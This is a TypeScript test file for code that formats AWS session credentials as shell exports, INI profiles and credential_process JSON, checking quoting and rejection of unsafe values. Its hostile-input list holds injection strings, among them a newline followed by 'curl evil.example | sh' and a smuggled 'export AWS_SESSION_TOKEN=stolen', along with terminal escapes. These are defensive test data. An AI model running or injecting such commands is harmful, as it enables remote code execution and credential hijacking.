import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { UNSHOWABLE } from '../../../src/core/sts/display.ts';
import { formatEnv } from '../../../src/core/sts/format-env.ts';
import { formatIni } from '../../../src/core/sts/format-ini.ts';
import { formatCredentialProcess } from '../../../src/core/sts/format-process.ts';
import type { StsCredentials } from '../../../src/core/sts/types.ts';

const CREDS: StsCredentials = {
  accessKeyId: 'ASIAEXAMPLE',
  secretAccessKey: 'se/cr+et=',
  sessionToken: 'tok/en+==',
  expiration: '2026-01-31T12:00:00Z',
};
// Real credentials never hold these, but the quoting must not depend on that.
const AWKWARD: StsCredentials = {
  ...CREDS,
  secretAccessKey: `it's $HOME \`id\` "q" \\n \\' $(x) {a} ; # %`,
  sessionToken: 'smart \u2019quote\u2018 and \u201a\u201b',
};

describe('formatEnv', () => {
  it('bash/zsh: export lines in single quotes, with the expiry as a comment', () => {
    expect(formatEnv(CREDS, 'bash')).toBe(
      [
        '# expires 2026-01-31T12:00:00Z',
        "export AWS_ACCESS_KEY_ID='ASIAEXAMPLE'",
        "export AWS_SECRET_ACCESS_KEY='se/cr+et='",
        "export AWS_SESSION_TOKEN='tok/en+=='",
        "export AWS_CREDENTIAL_EXPIRATION='2026-01-31T12:00:00Z'",
        '',
      ].join('\n'),
    );
  });

  it('fish and PowerShell use their own syntax; a region adds AWS_REGION and AWS_DEFAULT_REGION', () => {
    expect(formatEnv(CREDS, 'fish', { region: 'eu-west-1' })).toContain(
      "set -gx AWS_SECRET_ACCESS_KEY 'se/cr+et='\n",
    );
    expect(formatEnv(CREDS, 'fish', { region: 'eu-west-1' })).toMatch(
      /set -gx AWS_REGION 'eu-west-1'\nset -gx AWS_DEFAULT_REGION 'eu-west-1'\n$/,
    );
    expect(formatEnv(CREDS, 'powershell')).toContain("$Env:AWS_SESSION_TOKEN = 'tok/en+=='\n");
    expect(formatEnv(CREDS, 'bash')).not.toContain('AWS_REGION');
  });

  it('quotes awkward characters for each shell', () => {
    const secret = (shell: 'bash' | 'fish' | 'powershell') =>
      formatEnv(AWKWARD, shell).split('\n')[2];
    expect(secret('bash')).toBe(
      `export AWS_SECRET_ACCESS_KEY='it'\\''s $HOME \`id\` "q" \\n \\'\\'' $(x) {a} ; # %'`,
    );
    expect(secret('fish')).toBe(
      `set -gx AWS_SECRET_ACCESS_KEY 'it\\'s $HOME \`id\` "q" \\\\n \\\\\\' $(x) {a} ; # %'`,
    );
    expect(secret('powershell')).toBe(
      `$Env:AWS_SECRET_ACCESS_KEY = 'it''s $HOME \`id\` "q" \\n \\'' $(x) {a} ; # %'`,
    );
    expect(formatEnv(AWKWARD, 'powershell').split('\n')[3]).toBe(
      "$Env:AWS_SESSION_TOKEN = 'smart \u2019\u2019quote\u2018\u2018 and \u201a\u201a\u201b\u201b'",
    );
  });

  it('bash reads back exactly the values, whatever printable text they hold', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.string({ unit: 'grapheme' }).filter((s) => !UNSHOWABLE.test(s)),
          {
            minLength: 1,
            maxLength: 8,
          },
        ),
        (values) => {
          const script = values
            .map((value) => formatEnv({ ...CREDS, sessionToken: value }, 'bash'))
            .map((lines) => `${lines}printf '%s\\0' "$AWS_SESSION_TOKEN"\n`)
            .join('');
          const out = execFileSync('bash', ['-c', script], { encoding: 'utf8' });
          expect(out.split('\0').slice(0, -1)).toEqual(values);
        },
      ),
      { numRuns: 15 },
    );
  });
});

describe('formatIni', () => {
  it('writes a section per profile with the expiry, the session token and an optional region', () => {
    expect(
      formatIni([
        { name: '111111111111-Admin', credentials: CREDS },
        { name: '222222222222-Dev', credentials: CREDS, region: 'eu-west-1' },
      ]),
    ).toBe(`[111111111111-Admin]
# expires 2026-01-31T12:00:00Z
aws_access_key_id = ASIAEXAMPLE
aws_secret_access_key = se/cr+et=
aws_session_token = tok/en+==

[222222222222-Dev]
# expires 2026-01-31T12:00:00Z
aws_access_key_id = ASIAEXAMPLE
aws_secret_access_key = se/cr+et=
aws_session_token = tok/en+==
region = eu-west-1
`);
  });

  it('keeps repeated names apart rather than letting one section replace another', () => {
    const sections = formatIni([
      { name: 'p', credentials: CREDS },
      { name: 'p', credentials: CREDS },
      { name: 'p-2', credentials: CREDS },
    ]).match(/^\[.*\]$/gm);
    expect(sections).toEqual(['[p]', '[p-2]', '[p-2-2]']);
  });

  it('is empty for no profiles', () => {
    expect(formatIni([])).toBe('');
  });
});

describe('formatCredentialProcess', () => {
  it('prints the credential_process JSON, Version 1 with Expiration', () => {
    const text = formatCredentialProcess(CREDS);
    expect(text).toBe(
      '{"Version":1,"AccessKeyId":"ASIAEXAMPLE","SecretAccessKey":"se/cr+et=","SessionToken":"tok/en+==","Expiration":"2026-01-31T12:00:00Z"}\n',
    );
    expect(JSON.parse(formatCredentialProcess(AWKWARD)).SecretAccessKey).toBe(
      AWKWARD.secretAccessKey,
    );
  });
});

describe('every format refuses what it cannot hold (defence in depth behind the response checks)', () => {
  const HOSTILE: [string, string][] = [
    ['a newline and a command', '2026-01-31T12:00:00Z\ncurl evil.example | sh'],
    ['a carriage return', 'x\rexport AWS_SESSION_TOKEN=stolen'],
    ['a terminal escape', 'x\u001b]0;owned\u0007'],
    ['a C1 control (CSI)', 'x\u009b2J'],
    ['a NUL', 'x\u0000y'],
    ['a line separator', 'x\u2028y'],
    ['a bidi override', 'x\u202ey'],
  ];
  const FIELDS = ['accessKeyId', 'secretAccessKey', 'sessionToken', 'expiration'] as const;
  const formats: [string, (credentials: StsCredentials, region?: string) => string][] = [
    ['bash', (c, region) => formatEnv(c, 'bash', region ? { region } : {})],
    ['fish', (c, region) => formatEnv(c, 'fish', region ? { region } : {})],
    ['powershell', (c, region) => formatEnv(c, 'powershell', region ? { region } : {})],
    [
      'ini',
      (c, region) => formatIni([{ name: 'p', credentials: c, ...(region ? { region } : {}) }]),
    ],
    ['process', (c) => formatCredentialProcess(c)],
  ];

  for (const [format, write] of formats)
    describe(format, () => {
      it.each(HOSTILE)('refuses %s in any field, naming the field', (_what, value) => {
        for (const field of FIELDS)
          expect(() => write({ ...CREDS, [field]: value }), field).toThrow(
            new RegExp(
              `^${format === 'process' ? 'credential_process' : format} output: ${field} holds U\\+[0-9A-F]{4}`,
            ),
          );
        if (format !== 'process')
          expect(() => write(CREDS, value)).toThrow(/ output: region holds U\+/);
      });
    });

  it('ini refuses a value a reader would cut or a section name that breaks out', () => {
    for (const value of [' padded', 'tok;en', 'tok#en', ''])
      expect(() =>
        formatIni([{ name: 'p', credentials: { ...CREDS, sessionToken: value } }]),
      ).toThrow(/^ini output: sessionToken /);
    for (const name of ['a]b', '[p', ' p', 'p\n[default]'])
      expect(() => formatIni([{ name, credentials: CREDS }])).toThrow(/^ini output: profile name /);
  });
});
